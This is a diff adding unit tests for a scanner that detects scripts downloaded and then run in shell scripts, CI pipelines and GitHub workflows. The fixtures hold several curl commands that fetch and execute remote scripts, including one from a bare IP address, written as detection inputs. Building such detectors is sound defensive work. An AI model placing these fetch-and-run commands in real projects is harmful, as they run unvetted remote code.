@@ -137,6 +137,38 @@ describe('curl-pipe-shell in two steps: a script downloaded to a file, then sour
       ['curl-pipe-shell', 'high', 4, 'script:https://tools.example-dev.io/setup.sh'],
     ]);
   });
+  it('reports each distinct script a script or CI pipeline downloads and runs, but those the base side already ran', () => {
+    const found = (path: string, p: string) => scriptDownloadFindings(makeFile(path, { patch: p })).map((f) => [f.id, f.severity, f.line]);
+    const first = 'curl -fsSL -o /tmp/a.sh https://tools.example-dev.io/v1.2/setup.sh && sh /tmp/a.sh';
+    const second = 'curl -fsSL -o /tmp/b.sh https://cdn.agent-mirror.dev/agent.sh && . /tmp/b.sh';
+    expect(found('scripts/install.sh', ['@@ -1,1 +1,3 @@', ' #!/bin/sh', `+${first}`, `+${second}`].join('\n'))).toEqual([
+      ['curl-pipe-shell', 'medium', 2],
+      ['curl-pipe-shell', 'medium', 3],
+    ]);
+    // The base ran the first (at another version): only the second is new.
+    expect(found('scripts/install.sh', ['@@ -1,2 +1,3 @@', ' #!/bin/sh', '-curl -fsSL -o /tmp/a.sh https://tools.example-dev.io/v1.1/setup.sh && sh /tmp/a.sh', `+${first}`, `+${second}`].join('\n'))).toEqual([['curl-pipe-shell', 'medium', 3]]);
+    // Beside a gist's script (downloaded-binary-run's), a named host's script run in a CI pipeline.
+    expect(found('.gitlab-ci.yml', ['@@ -1,2 +1,4 @@', ' test:', '   script:', '+    - curl -fsSL -o "$T" https://gist.githubusercontent.com/someone/abc/raw/s.sh && . "$T"', `+    - ${second}`].join('\n'))).toEqual([
+      ['curl-pipe-shell', 'high', 4],
+      ['downloaded-binary-run', 'high', 3],
+    ]);
+  });
+  it('reports each distinct script a workflow job downloads and runs, once per source', () => {
+    const workflow = (steps: string[]) => ['on: push', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', ...steps.map((l) => `      - run: ${l}`), ''].join('\n');
+    const wf = (steps: string[]) => extractWorkflow(workflow(steps), '.github/workflows/ci.yml').findings?.filter((f) => f.id === 'curl-pipe-shell' || f.id === 'downloaded-binary-run').map((f) => [f.id, f.severity, f.line]);
+    // A vendor's installer, then another host's script: each, with its own severity.
+    expect(wf(['curl -LsSf -o uv-install.sh https://astral.sh/uv/install.sh && sh uv-install.sh', 'curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/setup.sh && . /tmp/s.sh'])).toEqual([
+      ['curl-pipe-shell', 'medium', 6],
+      ['curl-pipe-shell', 'high', 7],
+    ]);
+    // The same script fetched and run in two steps, or at another version: one.
+    expect(wf(['curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.2/setup.sh && . /tmp/s.sh', 'curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.3/setup.sh && . /tmp/s.sh'])).toEqual([['curl-pipe-shell', 'high', 6]]);
+    // Beside a bare IP's file run (downloaded-binary-run's), a named host's script run.
+    expect(wf(['curl -fsSLo /tmp/h http://45.139.104.115/h && chmod +x /tmp/h', 'curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/setup.sh && bash /tmp/s.sh'])).toEqual([
+      ['curl-pipe-shell', 'high', 7],
+      ['downloaded-binary-run', 'high', 6],
+    ]);
+  });
   it('reports the same download once: the same script in two stages, the same source at another version, a bare IP\'s script', () => {
     const docker = (run: string) => extractDockerfile(`FROM debian:bookworm AS build\nRUN apt-get update\n${run}\n`, 'Dockerfile').findings?.filter((f) => f.id === 'curl-pipe-shell' || f.id === 'downloaded-binary-run').map((f) => [f.id, f.line]);
     expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh\nFROM debian:bookworm\nRUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh')).toEqual([['curl-pipe-shell', 3]]);
